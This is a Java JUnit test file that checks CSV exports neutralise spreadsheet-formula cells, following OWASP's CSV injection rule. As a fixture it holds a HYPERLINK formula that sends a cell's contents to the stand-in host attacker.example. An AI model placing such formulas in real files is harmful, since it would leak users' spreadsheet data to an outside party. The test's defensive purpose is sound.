package org.quartermaster.app.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.PreparedStatement;
import java.util.List;
import java.util.SplittableRandom;
import java.util.stream.LongStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.quartermaster.app.store.Store;

/**
 * CSV cells that begin like a spreadsheet formula are written as text (OWASP's CSV injection rule),
 * in query answers ({@link ResultFormat#CSV}) and in {@code qm export} ({@link TableExport}).
 */
class FormulaCellsTest {
  private static final String HYPERLINK = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";

  @TempDir Path dir;

  @ParameterizedTest
  @ValueSource(strings = {"=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK})
  void neutralise_textWithAFormulaLead_getsAnApostrophe(String text) {
    assertThat(FormulaCells.neutralise(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "Poland", "1+1", " =1", "'=1", "EUR"})
  void neutralise_otherText_isUnchanged(String text) {
    assertThat(FormulaCells.neutralise(text)).isEqualTo(text);
  }

  @Test
  void neutralise_numbersAndNull_areUnchanged() {
    assertThat(FormulaCells.neutralise(-2.5)).isEqualTo(-2.5);
    assertThat(FormulaCells.neutralise(-3L)).isEqualTo(-3L);
    assertThat(FormulaCells.neutralise(null)).isNull();
  }

  /** Fixed seeds, so a failure can be replayed. */
  static LongStream seeds() {
    return LongStream.range(0, 8).map(i -> 0x5EEDL * 31 + i);
  }

  /** Random text: the CSV cell is the text, or an apostrophe and the text exactly when it starts with a lead. */
  @ParameterizedTest
  @MethodSource("seeds")
  void neutralise_randomText_prefixesExactlyTheFormulaLeads(long seed) {
    SplittableRandom random = new SplittableRandom(seed);
    String alphabet = "=+-@\t\r a1'\"";
    for (int i = 0; i < 500; i++) {
      StringBuilder text = new StringBuilder();
      int length = random.nextInt(4);
      for (int c = 0; c < length; c++) {
        text.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      String s = text.toString();
      Object cell = FormulaCells.neutralise(s);
      boolean lead = !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0;
      assertThat(cell).as("cell of %s", s).isEqualTo(lead ? "'" + s : s);
    }
  }

  @Test
  void resultFormatCsv_formulaText_isWrittenAsText_numbersAsNumbers() throws IOException {
    QueryResult result = new QueryResult("t", List.of(Column.text("note"), Column.number("amount", "EUR")),
        List.of(List.of(HYPERLINK, -5.0), List.of("plain", 7.0)), List.of(), List.of(), List.of());
    StringWriter out = new StringWriter();

    ResultFormat.CSV.write(result, out);

    assertThat(out.toString()).isEqualTo("note,amount\r\n"
        + "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Click\"\")\",-5\r\n"
        + "plain,7\r\n");
  }

  @Test
  void tableExportCsv_formulaText_isWrittenAsText_otherFormatsUnchanged() throws IOException {
    try (Store store = Store.inMemory()) {
      store.write(connection -> {
        try (PreparedStatement insert = connection.prepareStatement(
            "INSERT INTO countries (iso3, name) VALUES ('ZZA', ?), ('ZZB', '-Minus'), ('ZZC', 'Plain')")) {
          insert.setString(1, HYPERLINK);
          return insert.executeUpdate();
        }
      });
      Path csv = dir.resolve("countries.csv");
      Path json = dir.resolve("countries.json");

      TableExport.write(store, ExportTable.COUNTRIES, ExportFormat.CSV, csv);
      TableExport.write(store, ExportTable.COUNTRIES, ExportFormat.JSON, json);

      List<String> lines = Files.readAllLines(csv);
      assertThat(lines.getFirst()).isEqualTo("iso3,name,nato_since,eu_since,eu_until");
      assertThat(lines).contains("ZZA,\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Click\"\")\",,,",
          "ZZB,'-Minus,,,", "ZZC,Plain,,,");
      assertThat(lines.stream().filter(line -> line.matches("^[A-Z]{3},[=+\\-@].*"))).isEmpty();
      assertThat(Files.readString(json)).contains("\"name\":\"-Minus\"");
    }
  }
}
